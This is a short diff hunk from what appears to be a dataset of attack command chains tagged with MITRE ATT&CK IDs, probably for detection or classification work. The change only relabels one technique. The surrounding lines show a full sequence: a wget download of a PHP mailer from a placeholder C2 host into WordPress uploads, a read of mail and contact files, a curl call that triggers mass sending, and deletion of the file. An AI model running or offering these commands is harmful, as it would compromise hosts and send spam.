@@ -1047,7 +1047,7 @@ T1105 :: cd ~/public_html/wp-content/uploads
 T1105 :: wget -q http://{c2}/mailer.txt -O m.php
 T1114.001 :: ls ~/mail/
 T1005 :: cat ~/public_html/contacts.csv | wc -l
-T1071.003 :: curl -s "http://127.0.0.1/wp-content/uploads/m.php?send=1"
+T1496 :: curl -s "http://127.0.0.1/wp-content/uploads/m.php?send=1"
 T1070.004 :: rm -f m.php
 """),
 ("chain-gpu-farm-miner", "human", """
